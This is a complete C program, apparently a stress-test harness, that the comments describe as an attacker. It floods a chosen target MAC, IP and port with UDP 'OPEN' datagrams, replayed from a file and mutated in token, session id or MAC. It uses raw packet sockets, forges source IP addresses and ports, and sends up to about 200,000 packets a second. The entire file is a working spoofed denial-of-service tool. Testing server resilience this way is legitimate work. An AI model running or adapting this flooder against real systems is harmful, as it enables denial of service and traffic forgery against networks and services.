/* SPDX-License-Identifier: Apache-2.0
 *
 * An attacker who sends OPENs as fast as asked, from addresses that are not his, out of one Ethernet device:
 *     flood DEVICE TARGET_MAC TARGET_IP TARGET_PORT SPOOFED_MAC SPOOFED_NET SECONDS RATE OPEN_FILE
 * Each datagram comes from another address of SPOOFED_NET (a /16) and another port. OPEN_FILE holds genuine OPENs,
 * which are sent in turn. Of a single one come four kinds: as it was, with another token, another session id, another
 * MAC. Prints what was sent as JSON. The datagrams are made before they are due and differ in few bytes, so that one
 * core is enough for 200,000 a second.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum {
    BATCH = 128,
    OPEN_BYTES = 136,
    IP_AT = sizeof(struct ether_header),
    UDP_AT = IP_AT + sizeof(struct iphdr),
    HEAD = UDP_AT + sizeof(struct udphdr)
};

static uint8_t frames[BATCH][HEAD + OPEN_BYTES];
static uint64_t random_state = 88172645463325252u;

static uint64_t draw(void) /* xorshift64*, Marsaglia 2003 */
{
    random_state ^= random_state >> 12;
    random_state ^= random_state << 25;
    random_state ^= random_state >> 27;
    return random_state * UINT64_C(2685821657736338717);
}

static void mac_of(const char *text, uint8_t *out)
{
    if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", out, out + 1, out + 2, out + 3, out + 4, out + 5) != 6)
        exit(2);
}

static uint16_t ip_checksum(const uint8_t *head)
{
    uint16_t words[10];
    uint32_t sum = 0;
    memcpy(words, head, sizeof(words));
    for (int i = 0; i < 10; i++)
        sum += words[i];
    sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t) ~(sum + (sum >> 16));
}

static uint64_t now_us(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static void prepare(char **argv)
{
    uint8_t head[HEAD] = {0};
    struct ether_header *eth = (void *)head;
    struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
    struct udphdr udp = {.dest = htons((uint16_t)atoi(argv[4])), .len = htons(sizeof(udp) + OPEN_BYTES)};
    mac_of(argv[2], eth->ether_dhost);
    mac_of(argv[5], eth->ether_shost);
    eth->ether_type = htons(ETHERTYPE_IP);
    ip.tot_len = htons(sizeof(ip) + sizeof(udp) + OPEN_BYTES);
    ip.saddr = inet_addr(argv[6]);
    ip.daddr = inet_addr(argv[3]);
    memcpy(head + IP_AT, &ip, sizeof(ip));
    memcpy(head + UDP_AT, &udp, sizeof(udp)); /* UDP checksum 0: none (RFC 768) */
    for (int i = 0; i < BATCH; i++)
        memcpy(frames[i], head, HEAD);
}

static void vary(uint64_t n, const uint8_t *opens, size_t nb_opens)
{
    static const size_t at[] = {0, 72, 4, 120}; /* nothing; the token's random; the session id; the MAC */
    for (int i = 0; i < BATCH; i++, n++) {
        uint8_t *frame = frames[i];
        uint64_t from = draw(), value = draw();
        uint16_t port = htons((uint16_t)(1024 + (from >> 16) % 64000)), check;
        memset(frame + IP_AT + offsetof(struct iphdr, check), 0, sizeof(check));
        memcpy(frame + IP_AT + offsetof(struct iphdr, saddr) + 2, &from, 2);
        check = ip_checksum(frame + IP_AT);
        memcpy(frame + IP_AT + offsetof(struct iphdr, check), &check, sizeof(check));
        memcpy(frame + UDP_AT, &port, sizeof(port));
        memcpy(frame + HEAD, opens + n % nb_opens * OPEN_BYTES, OPEN_BYTES);
        if (nb_opens == 1 && at[n % 4] != 0)
            memcpy(frame + HEAD + at[n % 4], &value, sizeof(value));
    }
}

static uint8_t *read_opens(const char *path, size_t *count)
{
    FILE *f = fopen(path, "rb");
    if (f == NULL || fseek(f, 0, SEEK_END) != 0)
        exit(2);
    *count = (size_t)ftell(f) / OPEN_BYTES;
    uint8_t *opens = malloc(*count * OPEN_BYTES);
    rewind(f);
    if (*count == 0 || opens == NULL || fread(opens, OPEN_BYTES, *count, f) != *count)
        exit(2);
    fclose(f);
    return opens;
}

static int raw_socket(const char *device)
{
    int fd = socket(AF_PACKET, SOCK_RAW, 0), on = 1;
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(device)};
    if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)) != 0 || /* no queue in between */
        bind(fd, (struct sockaddr *)&to, sizeof(to)) != 0)
        exit(1);
    return fd;
}

int main(int argc, char **argv)
{
    size_t nb_opens;
    if (argc != 10)
        return 2;
    uint8_t *opens = read_opens(argv[9], &nb_opens);
    int fd = raw_socket(argv[1]);
    prepare(argv);
    struct mmsghdr messages[BATCH] = {0};
    struct iovec parts[BATCH];
    for (int i = 0; i < BATCH; i++) {
        parts[i] = (struct iovec){frames[i], sizeof(frames[i])};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
    }
    double seconds = atof(argv[7]), rate = atof(argv[8]);
    uint64_t began = now_us(), end = began + (uint64_t)(seconds * 1e6), now, sent = 0;
    vary(sent, opens, nb_opens);
    while ((now = now_us()) < end) {
        if ((double)sent >= (double)(now - began) * rate / 1e6) {
            nanosleep(&(struct timespec){.tv_nsec = 100000}, NULL);
            continue;
        }
        int n = sendmmsg(fd, messages, BATCH, 0);
        sent += n > 0 ? (uint64_t)n : 0;
        vary(sent, opens, nb_opens);
    }
    double took = (double)(now - began) / 1e6;
    printf("{\"sent\": %llu, \"bytes\": %llu, \"seconds\": %.2f, \"rate_per_s\": %.0f}\n", (unsigned long long)sent,
           (unsigned long long)sent * OPEN_BYTES, took, (double)sent / took);
    free(opens);
    return 0;
}
